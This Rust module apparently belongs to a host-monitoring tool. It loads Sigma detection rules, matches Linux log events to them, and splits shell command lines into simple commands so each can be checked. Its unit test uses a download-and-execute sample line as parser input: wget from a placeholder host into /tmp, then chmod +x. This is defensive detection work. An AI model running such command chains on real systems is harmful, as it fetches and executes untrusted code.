//! Sigma: rules over events, as SigmaHQ and others write them.
//!
//! The engine is `rsigma`; nothing outside this module knows it (design note 0006). What is ours is
//! the reading of rules with complaints that help ([`Complaint`]), which events go to which log
//! source, which field is which ([`Sigma::hits`]), and what becomes of the hits ([`Run`]).
//! Public rules fail on Linux where nobody translates between their words and a log's; the tables
//! in `sigma/source.rs` and `sigma/mapping.rs` are that translation.

mod complaint;
mod correlate;
mod load;
mod mapping;
mod report;
mod rewrite;
mod run;
mod source;
mod view;

use std::collections::BTreeMap;

use rsigma_eval::Engine;
use stanch_words::{Event, EventKind, Level};

pub(crate) use complaint::one_line;
pub use complaint::{Complaint, Harm};
pub use run::Run;

use source::Source;
use view::{Parent, View};

/// How much of a command line is taken apart into simple commands, and into how many.
const PARTS: usize = 32;

/// What is told of a rule.
#[derive(Clone, Debug, PartialEq)]
pub struct Rule {
    /// Its id; its file's name where it has none.
    pub id: String,
    /// Its title.
    pub title: String,
    /// How grave a hit is.
    pub level: Level,
    /// Whether its authors call it tried (`stable`, `test`).
    pub is_tried: bool,
    /// Who wrote it; empty if nobody says.
    pub author: String,
    /// What it finds, in its author's words.
    pub description: String,
    /// When it is innocent, in its author's words.
    pub innocent: Vec<String>,
    /// ATT&CK technique ids.
    pub attack: Vec<String>,
    /// The file that it stands in.
    pub file: String,
    /// The line there, from 1.
    pub line: u64,
    /// Whether it only feeds correlations and gives no finding itself.
    pub is_part: bool,
    /// Whether it correlates hits of other rules.
    pub is_correlation: bool,
}

/// How much was loaded.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Loaded {
    /// Files.
    pub files: usize,
    /// Rules over single events, loaded and able to fire here.
    pub rules: usize,
    /// Rules over hits of others.
    pub correlations: usize,
    /// Filters, which take away from other rules.
    pub filters: usize,
    /// Rules that are sound, but for other systems or logs.
    pub elsewhere: usize,
}

/// A rule that an event fires.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Hit {
    /// The rule, as an index into [`Sigma::rules`].
    pub rule: usize,
    /// The fields that made it so, with the event's values.
    pub matched: Vec<(String, String)>,
}

/// The rules of one log source.
struct Group {
    source: Source,
    rows: &'static [mapping::Row],
    engine: Engine,
    /// Whether simple commands within a command line are looked at by themselves.
    in_parts: bool,
}

/// Rules that are ready to judge events.
pub struct Sigma {
    rules: Vec<Rule>,
    by_id: BTreeMap<String, usize>,
    groups: Vec<Group>,
    correlations: correlate::Correlations,
    loaded: Loaded,
}

impl std::fmt::Debug for Sigma {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Sigma").field("loaded", &self.loaded).finish_non_exhaustive()
    }
}

impl Sigma {
    /// Loads rules from files, each a path and its bytes. A bad rule is a complaint, never the end
    /// of the others.
    pub fn load(files: impl IntoIterator<Item = (String, Vec<u8>)>) -> (Self, Vec<Complaint>) {
        load::load(files)
    }

    /// Returns all rules that can fire.
    pub fn rules(&self) -> &[Rule] {
        &self.rules
    }

    /// Returns how much was loaded.
    pub fn loaded(&self) -> Loaded {
        self.loaded
    }

    /// Returns the rules over single events that an event fires.
    pub fn hits(&self, event: &Event<'_>) -> Vec<Hit> {
        self.judge(event, None)
    }

    fn judge(&self, event: &Event<'_>, parent: Option<&Parent>) -> Vec<Hit> {
        let is_audit = source::is_audit(event);
        let mut hits = Vec::new();
        for group in &self.groups {
            if !group.source.takes(event, is_audit) {
                continue;
            }
            let view = View::new(event, parent, group.rows);
            self.fire(group, &view, &mut hits);
            if group.in_parts && is_typed(event) {
                for part in simple_commands(&event.command) {
                    self.fire(group, &view.part(part), &mut hits);
                }
            }
        }
        hits
    }

    fn fire(&self, group: &Group, view: &View<'_>, hits: &mut Vec<Hit>) {
        for result in group.engine.evaluate(view) {
            let id = result.header.rule_id.as_deref().unwrap_or_default();
            let Some(&rule) = self.by_id.get(id) else { continue };
            if hits.iter().any(|hit| hit.rule == rule) {
                continue;
            }
            let matched = result.as_detection().map(|body| {
                let fields = body.matched_fields.iter().take(MATCHED);
                fields.map(|one| (one.field.clone(), plain(&one.value))).collect()
            });
            hits.push(Hit { rule, matched: matched.unwrap_or_default() });
        }
    }
}

/// How many fields of a hit are told.
const MATCHED: usize = 8;

fn plain(value: &serde_json::Value) -> String {
    match value {
        serde_json::Value::String(text) => text.clone(),
        serde_json::Value::Null => String::new(),
        other => other.to_string(),
    }
}

/// Returns whether a command is what somebody typed or scheduled, so that a shell took it apart.
fn is_typed(event: &Event<'_>) -> bool {
    let is_shell = event.path.is_empty() || event.kind == EventKind::CronRun;
    is_shell && event.command.bytes().any(|byte| b";|&\n(`".contains(&byte))
}

/// Returns the simple commands of a line that a shell reads: parted at `;`, `|`, `&` and line
/// ends outside quotes.
fn simple_commands(line: &str) -> impl Iterator<Item = &str> {
    let mut quote = None;
    let mut escaped = false;
    let parts = line.split(move |c: char| match c {
        _ if escaped => {
            escaped = false;
            false
        }
        '\\' if quote != Some('\'') => {
            escaped = true;
            false
        }
        '"' | '\'' if quote.is_none() => {
            quote = Some(c);
            false
        }
        c if quote == Some(c) => {
            quote = None;
            false
        }
        ';' | '|' | '&' | '\n' | '(' | ')' | '`' => quote.is_none(),
        _ => false,
    });
    parts.map(str::trim).filter(|part| !part.is_empty()).take(PARTS)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_line_falls_into_its_simple_commands() {
        let parts: Vec<&str> =
            simple_commands(r#"cd /tmp && wget 'http://x/?a;b' -O x; chmod +x x|"a|b" &"#)
                .collect();
        assert_eq!(parts, ["cd /tmp", "wget 'http://x/?a;b' -O x", "chmod +x x", "\"a|b\""]);
    }
}
